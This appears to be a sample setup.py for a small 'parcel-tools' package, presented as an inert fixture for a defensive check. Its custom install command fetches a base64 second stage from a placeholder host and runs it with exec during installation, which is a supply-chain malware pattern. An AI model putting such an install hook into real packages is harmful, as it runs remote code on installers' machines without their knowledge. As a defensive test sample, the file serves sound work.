"""Inert: shows what the malicious gate refuses. The host does not exist, and nothing runs this file."""
import base64
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install

VERSION = "1.0.0"
SUMMARY = "Small tools for the counter of a parcel desk"


def read_summary(path="README.md"):
    """The first paragraph of the readme, for the package index."""
    if not os.path.exists(path):
        return SUMMARY
    with open(path, encoding="utf-8") as readme:
        paragraphs = readme.read().split("\n\n")
    return paragraphs[1] if len(paragraphs) > 1 else SUMMARY


class Install(install):
    """Fetches a second stage while the package is being installed, which no installer should do."""

    def run(self):
        stage = urllib.request.urlopen("http://updates.example.invalid/stage2").read()
        exec(base64.b64decode(stage))
        install.run(self)


setup(
    name="parcel-tools",
    version=VERSION,
    description=read_summary(),
    packages=["desk", "planner"],
    python_requires=">=3.10",
    cmdclass={"install": Install},
)
